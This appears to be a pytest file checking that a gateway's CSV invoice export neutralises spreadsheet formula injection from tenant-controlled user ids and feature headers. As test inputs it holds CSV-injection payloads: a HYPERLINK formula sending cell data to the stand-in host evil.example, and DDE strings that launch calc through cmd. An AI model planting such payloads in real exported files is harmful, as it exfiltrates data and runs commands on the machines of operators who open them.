"""Invoice CSV: tenant-controlled text cannot become a spreadsheet formula.

A client names any feature in ``X-Tollway-Feature`` when no plugin restricts it, and user ids
are whatever the admin typed; both land in the CSV invoice an operator opens in a spreadsheet.
"""

from __future__ import annotations

import asyncio
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson

from proxy.analytics import invoice_csv
from tests.conftest import ADMIN_KEY, BASE_POLICY, Gw

ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
MSG = [{"role": "user", "content": "hello"}]

# a plan whose price override is a credit: its lines and total are negative numbers
PLANS = """
features:
  basic_suggestions: {{price_per_request: 0.01}}
tiers:
  free: {{requests_per_month: 1000, requests_per_minute: 100, features: [basic_suggestions],
          prices: {{credit: -0.5}}}}
"""
BASE = BASE_POLICY.split("features:")[0] + PLANS

USER = "@SUM(1+1)*cmd|' /C calc'!A0"
FEATURES = ['=HYPERLINK("http://evil.example/?x="&A1,"invoice")', "+1+cmd|' /C calc'!A0", "-2+3"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def chain(db: Path) -> str:
    return (
        "chain:\n  - name: auth\n"  # no limits plugin: any feature name is accepted
        f"  - name: metering\n    config: {{database: {db}, flush_interval: 50ms}}\n"
    )


async def invoice(gw: Gw, user: str, month: str, fmt: str) -> tuple[int, str]:
    async with gw.http.get(
        f"{gw.url}/admin/invoices/{quote(user, safe='')}",
        params={"month": month, "format": fmt},
        headers=ADMIN,
    ) as r:
        return r.status, await r.text()


async def test_formula_cells_are_neutralised_and_numbers_stay_numbers(
    make_gateway: Any, tmp_path: Path
) -> None:
    gw: Gw = await make_gateway(chain(tmp_path / "usage.duckdb"), base=BASE)
    key = await gw.create_key(USER, "free")
    client = gw.openai(key)
    for feature in [*FEATURES, "credit"]:
        await client.chat.completions.create(
            model="gpt-5.4-mini",
            messages=MSG,  # type: ignore[arg-type]
            extra_headers={"X-Tollway-Feature": feature},
        )
    month = datetime.datetime.now(datetime.UTC).strftime("%Y-%m")

    # the JSON invoice carries the raw values: the attack reaches the CSV writer
    for _ in range(100):  # rows land with the metering flush (every 50 ms)
        status, text = await invoice(gw, USER, month, "json")
        assert status == 200, text
        data = orjson.loads(text)
        if sum(line["service"] == "ai_api" for line in data["lines"]) == len(FEATURES) + 1:
            break
        await asyncio.sleep(0.05)
    assert data["user"] == USER
    assert set(FEATURES) <= {line["feature"] for line in data["lines"]}
    assert Decimal(data["total"]) < 0  # the credit outweighs the prices

    status, text = await invoice(gw, USER, month, "csv")
    assert status == 200, text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(data["lines"]) + 1  # the lines, then the total
    texts = ("user", "month", "description", "service", "endpoint", "feature")
    for row in rows:
        for column in texts:
            cell = row[column]
            assert len(cell) <= 1 or not cell.startswith(TRIGGERS), (column, cell)
        assert row["user"] == "'" + USER
    features = {row["feature"] for row in rows}
    assert {"'" + f for f in FEATURES} <= features  # kept, only neutralised
    assert "credit" in features
    # money stays numeric, a negative total included: a spreadsheet still sums it
    credit = next(row for row in rows if row["feature"] == "credit")
    assert Decimal(credit["unit_price"]) == Decimal("-0.5")
    assert credit["total"].startswith("-") and Decimal(credit["total"]) < 0
    assert rows[-1]["description"] == "Total"
    assert Decimal(rows[-1]["total"]) == Decimal(data["total"]) < 0


def test_tab_and_carriage_return_are_neutralised_too() -> None:
    """HTTP strips a header value's leading tab; the writer neutralises it whatever the source."""
    line = {
        "description": "x",
        "service": "ai_api",
        "endpoint": "/v1/chat/completions",
        "feature": "\r=1+1",
        "quantity": 1,
        "unit_price": "-1",
        "total": "-1.00",
    }
    out = invoice_csv({"user": "\t=1+1", "month": "2026-01", "lines": [line], "total": "-1.00"})
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[1][0] == "'\t=1+1" and rows[1][5] == "'\r=1+1"
    assert rows[1][7:] == ["-1", "-1.00"] and rows[2][8] == "-1.00"
    # a CR inside a cell is quoted: it cannot start a row whose first cell is a formula
    out = invoice_csv({"user": "bob\r=1+1", "month": "2026-01", "lines": [], "total": "0"})
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 2 and rows[1][0] == "bob\r=1+1"
